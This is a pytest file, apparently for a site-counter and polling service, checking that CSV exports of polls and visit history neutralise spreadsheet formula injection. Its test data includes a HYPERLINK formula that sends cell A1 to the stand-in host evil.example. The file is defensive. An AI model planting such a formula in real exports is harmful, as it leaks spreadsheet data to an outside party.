"""CSV exports open safely in a spreadsheet: text that would run as a formula is neutralised."""

from __future__ import annotations

import csv
import io

import pytest

from counter.spreadsheets import safe_cell
from tests.conftest import ADMIN, Client, hit, make_site
from tests.polls_support import make_poll, vote

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Xem kết quả")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\tTab",
    "\rReturn",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_a_spreadsheet_would_run_gets_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("kept", ["Tốt", "a=b", "1", "", 42, None, "'quoted"])
def test_other_cells_are_kept_as_they_are(kept: object) -> None:
    assert safe_cell(kept) == kept


async def test_a_poll_export_neutralises_formulas_in_questions_and_options(
    client: Client,
) -> None:
    await make_site(client)
    poll = await make_poll(
        client, question=FORMULAS[0], options=[*FORMULAS[1:4], "Tốt"], results_visibility="always"
    )
    assert (await vote(client, poll["id"], "visitor-0001", ["o4"])).status == 200
    resp = await client.get(f"/v1/admin/polls/{poll['id']}/export?format=csv", headers=ADMIN)
    assert resp.status == 200
    rows = list(csv.DictReader(io.StringIO(await resp.text())))
    assert {r["question"] for r in rows} == {"'" + FORMULAS[0]}
    assert [r["option"] for r in rows] == ["'+1+1", "'-2+3", "'@SUM(1,2)", "Tốt"]
    assert [r["votes"] for r in rows] == ["0", "0", "0", "1"]  # numbers stay numbers

    as_json = await client.get(f"/v1/admin/polls/{poll['id']}/export?format=json", headers=ADMIN)
    assert (await as_json.json())["rows"][0]["question"] == FORMULAS[0]  # JSON is data, as is


async def test_the_history_csv_goes_through_the_same_writer(client: Client) -> None:
    await make_site(client)
    await hit(client)
    resp = await client.get(
        "/v1/admin/sites/demo/history?format=csv&from=2026-11-25&to=2026-11-26", headers=ADMIN
    )
    assert resp.status == 200
    rows = list(csv.DictReader(io.StringIO(await resp.text())))
    assert [(r["date"], r["visits"], r["uniques"]) for r in rows] == [
        ("2026-11-25", "0", ""),
        ("2026-11-26", "1", "1"),
    ]
